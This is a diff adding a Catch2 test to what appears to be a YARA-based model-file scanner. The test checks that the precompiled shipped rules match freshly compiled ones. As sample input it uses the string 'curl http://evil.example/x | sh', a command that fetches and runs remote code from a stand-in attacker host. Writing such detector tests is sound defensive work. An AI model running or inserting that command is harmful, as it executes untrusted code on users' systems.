@@ -9,6 +9,7 @@
 #include <set>
 
 #include "npy.h"
+#include "yara_precompiled.h"
 #include "yara_test_util.h"
 #include "zip.h"
 
@@ -387,4 +388,22 @@ TEST_CASE("default rules: typical benign metadata only gets the low URL note", "
   CHECK(Ids(out) == std::vector<std::string>{"MG-YARA-URL-IN-METADATA"});
   const std::string header = SafetensorsHeader(R"({"format":"pt"})");
   CHECK(ScanDefault(header, "header", 8).empty());
+}
+
+TEST_CASE("the precompiled shipped rules are the shipped rules", "[yara][default]") {
+  auto loaded = modelgate::scanner::YaraRules::Deserialize(modelgate::scanner::DefaultCompiledRules());
+  REQUIRE(loaded.ok());
+  auto compiled = modelgate::scanner::YaraRules::CompileDefault();
+  REQUIRE(compiled.ok());
+  CHECK(loaded.value().rule_count() == compiled.value().rule_count());
+  CHECK(loaded.value().rule_count() > 0);
+  const std::string payload = "x curl http://evil.example/x | sh";
+  std::vector<modelgate::scanner::Finding> a, b;
+  loaded.value().Scan({reinterpret_cast<const uint8_t*>(payload.data()), payload.size()}, "metadata", &a);
+  compiled.value().Scan({reinterpret_cast<const uint8_t*>(payload.data()), payload.size()}, "metadata", &b);
+  REQUIRE_FALSE(a.empty());
+  REQUIRE(a.size() == b.size());
+  for (size_t i = 0; i < a.size(); ++i) CHECK(a[i].id == b[i].id);
+  std::vector<uint8_t> garbage = {1, 2, 3};
+  CHECK_FALSE(modelgate::scanner::YaraRules::Deserialize(garbage).ok());
 }
